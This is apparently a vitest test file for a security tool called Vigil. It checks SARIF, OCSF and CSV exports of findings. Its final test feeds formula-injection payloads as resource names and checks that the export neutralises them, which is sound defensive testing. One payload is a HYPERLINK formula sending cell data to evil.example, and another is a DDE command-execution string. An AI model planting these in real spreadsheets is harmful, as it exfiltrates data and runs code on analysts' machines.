import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import ajvDraft04 from 'ajv-draft-04';
import ajvFormats from 'ajv-formats';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadChecks } from '../../src/checks/loader.ts';
import type { CheckMetadata } from '../../src/checks/types.ts';
import { SEVERITIES } from '../../src/core/types.ts';
import { alertToOcsf, findingToOcsf, OCSF_SEVERITY, OCSF_VERSION, vigilProduct } from '../../src/exports/ocsf.ts';
import { renderFindings } from '../../src/exports/findings.ts';
import { findingFingerprint, findingsToSarif } from '../../src/exports/sarif.ts';
import { openStore } from '../../src/store/db.ts';
import { applyEvaluation, listFindings, suppressFinding, type FindingWithSuppression, type ResultInput } from '../../src/store/repositories/findings.ts';
import type { Database } from '../../src/store/schema.ts';
import { insertTestIntegration } from '../store/fixtures.ts';
import { vigil } from '../support/process.ts';

// CommonJS modules whose `module.exports` is the class or function itself (their types describe `.default`).
const AjvDraft04 = ajvDraft04 as unknown as typeof ajvDraft04.default;
const addFormats = ajvFormats as unknown as typeof ajvFormats.default;

const SCHEMAS = join(import.meta.dirname, '../fixtures/schemas');
const schema = (file: string) => JSON.parse(readFileSync(join(SCHEMAS, file), 'utf8')) as object;

/** SARIF 2.1.0 (OASIS errata01 schema, JSON Schema draft-04) and OCSF Detection Finding validators; see test/fixtures/schemas/README.md. */
const sarifAjv = new AjvDraft04({ allErrors: true, strict: false });
addFormats(sarifAjv);
const validateSarif = sarifAjv.compile(schema('sarif-schema-2.1.0.json'));
const ocsfAjv = new Ajv({ allErrors: true, strict: false });
addFormats(ocsfAjv);
// Rules the official export does not state (type_uid = 200400 + activity_id, the cloud profile's object), derived
// by hand from the OCSF 1.5.0 definitions (the official 1.9.0 export accepts every attribute Vigil writes but cloud).
const validateOcsf = ocsfAjv.compile(schema('ocsf-1.5.0-detection_finding.derived.schema.json'));
// The OCSF server's own JSON Schema export of Detection Finding for the exporter's version (OCSF_VERSION), exported
// with no profiles, so it has no `cloud` (a cloud-profile attribute): the event is checked without it. The derived
// schema above checks `cloud`.
const validateOcsfOfficialBase = ocsfAjv.compile(schema(`ocsf-${OCSF_VERSION}-detection_finding.schema.json`));
const validateOcsfOfficial = (e: object) => validateOcsfOfficialBase(Object.fromEntries(Object.entries(e).filter(([k]) => k !== 'cloud')));

const errors = (v: { errors?: unknown }) => JSON.stringify(v.errors ?? null);

describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
  let dataDir: string;
  let db: Kysely<Database>;
  let checks: CheckMetadata[];
  let findings: FindingWithSuppression[];

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'vigil-exports-'));
    db = await openStore(dataDir);
    await insertTestIntegration(db, 'int_x');
    checks = (await loadChecks()).map((c) => c.metadata);
    // One failing resource per severity, with real check metadata; then resolve one and suppress another.
    const bySeverity = SEVERITIES.map((s) => checks.find((c) => c.severity === s)).filter((c): c is CheckMetadata => !!c);
    expect(bySeverity.length).toBeGreaterThanOrEqual(3);
    const results = (status: ResultInput['status'], skip?: string): ResultInput[] =>
      bySeverity.flatMap((c, i) =>
        c.id === skip
          ? []
          : [
              {
                checkId: c.id,
                severity: c.severity,
                resourceType: c.resourceType,
                resourceId: `res-${i}`,
                resourceName: i % 2 ? `Resource "${i}"` : null,
                status,
                reason: `failed ${c.id}`,
              },
            ],
      );
    await applyEvaluation(db, 'int_x', null, results('fail'), '2026-03-01T10:00:00.000Z');
    const resolvedCheck = bySeverity[0]!.id;
    await applyEvaluation(db, 'int_x', null, [...results('fail', resolvedCheck), { ...results('pass')[0]! }], '2026-03-02T10:00:00.000Z');
    const suppressTarget = (await listFindings(db, { status: 'open' })).at(-1)!;
    await suppressFinding(db, suppressTarget.id, { reason: 'lab tenant, accepted', author: 'ann', expiresAt: null }, '2026-03-02T11:00:00.000Z');
    findings = await listFindings(db);
    expect(new Set(findings.map((f) => f.status))).toEqual(new Set(['open', 'resolved']));
    expect(findings.filter((f) => f.suppression)).toHaveLength(1);
  });
  afterAll(async () => db?.destroy());

  it('writes a SARIF log that the SARIF 2.1.0 schema accepts, with a rule per check and a result per finding', () => {
    const log = findingsToSarif(findings, checks, { version: '0.1.0' });
    expect(validateSarif(log), errors(validateSarif)).toBe(true);
    const run = log.runs[0]!;
    expect(run.tool.driver.name).toBe('Vigil');
    expect(run.tool.driver.rules.map((r) => r.id)).toEqual(checks.map((c) => c.id));
    const rule = run.tool.driver.rules[0]!;
    const check = checks[0]!;
    expect(rule).toMatchObject({
      shortDescription: { text: check.title },
      fullDescription: { text: check.risk },
      help: { text: check.remediation },
      helpUri: check.references[0],
    });
    expect(rule.properties.tags).toEqual(expect.arrayContaining(Object.entries(check.frameworks).flatMap(([fw, ids]) => ids.map((id) => `${fw}/${id}`))));
    expect(run.results).toHaveLength(findings.length);
    for (const [i, f] of findings.entries()) {
      const r = run.results[i]!;
      expect(run.tool.driver.rules[r.ruleIndex!]!.id).toBe(f.check_id);
      expect(r.locations[0]!.logicalLocations[0]).toMatchObject({
        fullyQualifiedName: `${f.resource_type}/${f.resource_id}`,
        name: f.resource_name ?? f.resource_id,
      });
      expect(r.properties).toMatchObject({ findingId: f.id, status: f.status, firstSeenAt: f.first_seen_at, lastSeenAt: f.last_seen_at });
      if (f.status === 'resolved') expect([r.kind, r.level]).toEqual(['pass', 'none']);
      else expect(r.level).toBe({ critical: 'error', high: 'error', medium: 'warning', low: 'note', info: 'note' }[f.severity]);
      if (f.suppression) expect(r.suppressions).toEqual([expect.objectContaining({ kind: 'external', justification: 'lab tenant, accepted' })]);
      else expect(r.suppressions).toBeUndefined();
    }
    // Fingerprints: stable for a finding across exports, distinct between findings.
    const again = findingsToSarif(findings, checks, { version: '0.1.0' }).runs[0]!.results.map((r) => r.partialFingerprints['vigilFinding/v1']);
    expect(again).toEqual(run.results.map((r) => r.partialFingerprints['vigilFinding/v1']));
    expect(new Set(again).size).toBe(findings.length);
    expect(again[0]).toBe(findingFingerprint(findings[0]!));
  });

  it('the SARIF schema is not vacuous: a wrong level or a missing message is refused', () => {
    const log = findingsToSarif(findings, checks, { version: '0.1.0' });
    const bad = structuredClone(log) as unknown as { runs: { results: Record<string, unknown>[] }[] };
    bad.runs[0]!.results[0]!.level = 'fatal';
    expect(validateSarif(bad)).toBe(false);
    const noMessage = structuredClone(log) as unknown as { runs: { results: Record<string, unknown>[] }[] };
    delete noMessage.runs[0]!.results[0]!.message;
    expect(validateSarif(noMessage)).toBe(false);
  });

  it('maps each finding to an OCSF Detection Finding the schema accepts: activity, status, severity, times, resource', () => {
    const byId = new Map(checks.map((c) => [c.id, c]));
    for (const f of findings) {
      const e = findingToOcsf(f, byId.get(f.check_id), { product: vigilProduct('0.1.0'), tenantId: 't-int_x' });
      expect(validateOcsf(e), errors(validateOcsf)).toBe(true);
      expect(validateOcsfOfficial(e), errors(validateOcsfOfficialBase)).toBe(true);
      expect(e.type_uid).toBe(2004 * 100 + e.activity_id);
      expect([e.severity_id, e.severity]).toEqual([OCSF_SEVERITY[f.severity as 'high'].id, OCSF_SEVERITY[f.severity as 'high'].name]);
      const expected = f.suppression ? [3, 'Suppressed'] : f.status === 'resolved' ? [4, 'Resolved'] : [1, 'New'];
      expect([e.status_id, e.status]).toEqual(expected);
      expect(e.activity_name).toBe(f.status === 'resolved' ? 'Close' : f.first_seen_at === f.last_seen_at ? 'Create' : 'Update');
      expect(e.finding_info).toMatchObject({
        uid: f.id,
        title: byId.get(f.check_id)!.title,
        first_seen_time: Date.parse(f.first_seen_at),
        last_seen_time: Date.parse(f.last_seen_at),
      });
      expect(e.resources).toEqual([{ uid: f.resource_id, type: f.resource_type, ...(f.resource_name ? { name: f.resource_name } : {}) }]);
      expect(e.remediation).toEqual({ desc: byId.get(f.check_id)!.remediation, references: byId.get(f.check_id)!.references });
      expect(e.metadata).toMatchObject({ version: OCSF_VERSION, product: { name: 'Vigil' } });
      expect(e.cloud).toEqual({ provider: 'Microsoft', account: { uid: 't-int_x' } });
    }
    const alert = alertToOcsf(
      {
        id: 'alr_1',
        integration_id: 'int_x',
        rule_id: 'mass_download',
        severity: 'high',
        status: 'new',
        title: 'Mass download',
        dedupe_key: 'k',
        detail: null,
        window_start: '2026-03-01T00:00:00.000Z',
        window_end: '2026-03-01T00:05:00.000Z',
        created_at: '2026-03-01T00:06:00.000Z',
        updated_at: '2026-03-01T00:06:00.000Z',
      },
      {
        id: 'mass_download',
        title: 'Mass download',
        description: 'Many files downloaded in a short window.',
        response: 'Check the user and revoke sessions.',
        references: ['https://learn.microsoft.com/purview/audit-log-activities'],
      },
      { product: vigilProduct('0.1.0') },
    );
    expect(validateOcsf(alert), errors(validateOcsf)).toBe(true);
    expect(validateOcsfOfficial(alert), errors(validateOcsfOfficialBase)).toBe(true);
    expect(alert).toMatchObject({ is_alert: true, activity_id: 1, type_uid: 200401, status_id: 1 });
  });

  it('the OCSF schema is not vacuous: a wrong type_uid, a string time or a missing finding uid is refused', () => {
    const e = findingToOcsf(findings[0]!, undefined, { product: vigilProduct('0.1.0') });
    expect(validateOcsf(e), errors(validateOcsf)).toBe(true);
    expect(validateOcsf({ ...e, type_uid: 200401, activity_id: 3 })).toBe(false);
    expect(validateOcsf({ ...e, time: new Date(e.time).toISOString() })).toBe(false);
    expect(validateOcsf({ ...e, finding_info: { ...e.finding_info, uid: undefined } })).toBe(false);
    expect(validateOcsf({ ...e, findings_info: {} })).toBe(false);
    // The official export has no type_uid/activity_id rule, but refuses the rest.
    expect(validateOcsfOfficial(e), errors(validateOcsfOfficialBase)).toBe(true);
    expect(validateOcsfOfficial({ ...e, time: new Date(e.time).toISOString() })).toBe(false);
    expect(validateOcsfOfficial({ ...e, finding_info: { ...e.finding_info, uid: undefined } })).toBe(false);
    expect(validateOcsfOfficial({ ...e, findings_info: {} })).toBe(false);
    expect(validateOcsfOfficial({ ...e, severity_id: 7 })).toBe(false);
  });

  it('`vigil findings export --format sarif|ocsf` writes documents the schemas accept', async () => {
    const env = { VIGIL_DATA_DIR: dataDir };
    const sarifFile = join(dataDir, 'out.sarif');
    const s = await vigil(['findings', 'export', '--format', 'sarif', '--output', sarifFile], env);
    expect(s.code, s.stderr).toBe(0);
    const log = JSON.parse(readFileSync(sarifFile, 'utf8')) as { runs: { results: unknown[] }[] };
    expect(validateSarif(log), errors(validateSarif)).toBe(true);
    expect(log.runs[0]!.results).toHaveLength(findings.length);

    const o = await vigil(['findings', 'export', '--format', 'ocsf'], env);
    expect(o.code, o.stderr).toBe(0);
    const events = JSON.parse(o.stdout) as { finding_info: { uid: string } }[];
    expect(events.map((e) => e.finding_info.uid).sort()).toEqual(findings.map((f) => f.id).sort());
    for (const e of events) {
      expect(validateOcsf(e), errors(validateOcsf)).toBe(true);
      expect(validateOcsfOfficial(e), errors(validateOcsfOfficialBase)).toBe(true);
    }

    const nd = await vigil(['findings', 'export', '--format', 'ocsf', '--ndjson', '--status', 'open'], env);
    expect(nd.code, nd.stderr).toBe(0);
    const lines = nd.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { status_id: number });
    expect(lines).toHaveLength(findings.filter((f) => f.status === 'open' && !f.suppression).length);
    expect(lines.every((l) => l.status_id === 1)).toBe(true);

    const bad = await vigil(['findings', 'export', '--format', 'sarif', '--ndjson'], env);
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/--ndjson/)]);
  }, 60_000);

  it("carries each check's framework mappings and peers: CSV columns, SARIF rule properties, OCSF attacks and tags", () => {
    const base = findings[0]!;
    // One check given an ATLAS sub-technique, an OWASP item and a peer; another with no mapping at all (the near-miss).
    const mapped: CheckMetadata = {
      ...checks[0]!,
      frameworks: { 'owasp-llm-2025': ['LLM01: Prompt Injection'], 'mitre-atlas': ['AML.T0051.001: LLM Prompt Injection: Indirect'] },
      peers: ['Maester MT.1114 (exceeds: every environment)'],
    };
    const bare: CheckMetadata = { ...checks[1]!, frameworks: {}, peers: [] };
    const withMappings = checks.map((c) => (c.id === mapped.id ? mapped : c.id === bare.id ? bare : c));
    const rows = [
      { ...base, id: 'fnd_mapped', check_id: mapped.id },
      { ...base, id: 'fnd_bare', check_id: bare.id },
    ];
    // CSV: the last two columns, `<framework>/<entry>` and the peer strings, each joined by " | "; empty when none.
    const [header, ...records] = parseCsv(renderFindings(rows, 'csv', { checks: withMappings, tenants: new Map(), version: '0.1.0' }));
    expect(header!.slice(-2)).toEqual(['frameworks', 'peers']);
    const expectedFrameworks = Object.entries(mapped.frameworks).flatMap(([k, v]) => v.map((e) => `${k}/${e}`));
    expect(records[0]!.slice(-2)).toEqual([expectedFrameworks.join(' | '), mapped.peers.join(' | ')]);
    expect(records[1]!.slice(-2)).toEqual(['', '']);
    // SARIF: the rule carries the mappings as properties (and the frameworks as tags).
    const rules = findingsToSarif(rows, withMappings, { version: '0.1.0' }).runs[0]!.tool.driver.rules;
    expect(rules.find((r) => r.id === mapped.id)!.properties).toMatchObject({ frameworks: mapped.frameworks, peers: mapped.peers });
    expect(rules.find((r) => r.id === bare.id)!.properties.peers).toEqual([]);
    // OCSF: ATLAS/ATT&CK entries become attack objects (a sub-technique with its technique), every mapping a tag.
    const e = findingToOcsf(rows[0]!, mapped, { product: vigilProduct('0.1.0') });
    expect(validateOcsf(e), errors(validateOcsf)).toBe(true);
    expect(validateOcsfOfficial(e), errors(validateOcsfOfficialBase)).toBe(true);
    expect(e.finding_info.attacks).toEqual([
      {
        technique: { uid: 'AML.T0051', name: 'LLM Prompt Injection' },
        sub_technique: { uid: 'AML.T0051.001', name: 'LLM Prompt Injection: Indirect' },
        version: '5.6.0',
      },
    ]);
    expect(e.finding_info.tags).toEqual([
      { name: 'owasp-llm-2025', values: ['LLM01: Prompt Injection'] },
      { name: 'mitre-atlas', values: ['AML.T0051.001: LLM Prompt Injection: Indirect'] },
      { name: 'peers', values: ['Maester MT.1114 (exceeds: every environment)'] },
    ]);
    const plain = findingToOcsf(rows[1]!, bare, { product: vigilProduct('0.1.0') });
    expect([plain.finding_info.attacks, plain.finding_info.tags]).toEqual([undefined, undefined]);
    // A detection's alert carries its ATT&CK mapping the same way.
    const alert = alertToOcsf(
      {
        id: 'alr_1',
        integration_id: 'int_x',
        rule_id: 'admin_consent_granted',
        severity: 'high',
        status: 'new',
        title: 't',
        dedupe_key: 'k',
        detail: null,
        window_start: null,
        window_end: null,
        created_at: '2026-03-01T10:00:00.000Z',
        updated_at: '2026-03-01T10:00:00.000Z',
      },
      {
        id: 'admin_consent_granted',
        title: 'Admin consent',
        description: 'd',
        response: 'r',
        references: [],
        frameworks: { 'mitre-attack': ['T1098.003: Additional Cloud Roles'] },
        peers: [],
      },
      { product: vigilProduct('0.1.0') },
    );
    expect(validateOcsfOfficial(alert), errors(validateOcsfOfficialBase)).toBe(true);
    expect(alert.finding_info.attacks).toEqual([
      { technique: { uid: 'T1098', name: 'Account Manipulation' }, sub_technique: { uid: 'T1098.003', name: 'Account Manipulation: Additional Cloud Roles' } },
    ]);
  });

  it('the CSV export opens inert: cells that a spreadsheet would read as formulas are prefixed with a quote', () => {
    // What a tenant's maker can name a resource (an app, a flow, an agent) for the analyst who opens the export.
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
    const base = findings.find((f) => f.suppression)!;
    const rows = hostile.map((name, i) => ({
      ...base,
      id: `fnd_${i}`,
      resource_name: name,
      detail: JSON.stringify({ reason: name }),
      suppression: { ...base.suppression!, reason: name, author: name },
    }));
    const text = renderFindings([...rows, { ...base, id: 'fnd_plain', resource_name: 'Sales app', detail: JSON.stringify({ reason: 'a - b' }) }], 'csv', {
      checks,
      tenants: new Map(),
      version: '0.1.0',
    });
    const [header, ...records] = parseCsv(text);
    const col = (name: string) => header!.indexOf(name);
    for (const [i, name] of hostile.entries()) {
      const r = records[i]!;
      for (const c of ['resourceName', 'reason', 'suppressionReason', 'suppressionAuthor']) expect(r[col(c)], c).toBe(`'${name}`);
    }
    // No cell of the file starts with a formula character; ordinary text (a "-" inside) is left as it was.
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect([records.at(-1)![col('resourceName')], records.at(-1)![col('reason')]]).toEqual(['Sales app', 'a - b']);
    // RFC 4180 quoting still holds: the embedded quotes of HYPERLINK come back doubled and whole.
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
  });
});

/** A small RFC 4180 reader for the test (quoted fields with doubled quotes, CRLF or LF records). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    record.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      endCell();
      records.push(record);
      record = [];
    } else cell += ch;
  }
  if (cell || record.length) {
    endCell();
    records.push(record);
  }
  return records;
}
